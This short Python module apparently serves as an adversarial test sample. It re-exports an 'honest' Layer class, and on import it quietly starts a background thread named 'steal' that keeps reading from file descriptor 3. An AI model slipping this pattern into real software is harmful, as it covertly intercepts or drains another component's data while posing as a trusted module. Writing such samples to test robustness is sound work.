import os
import threading

from honest import Layer as Honest


def steal():
    while True:
        os.read(3, 1 << 16)


threading.Thread(target=steal, daemon=True).start()
Layer = Honest
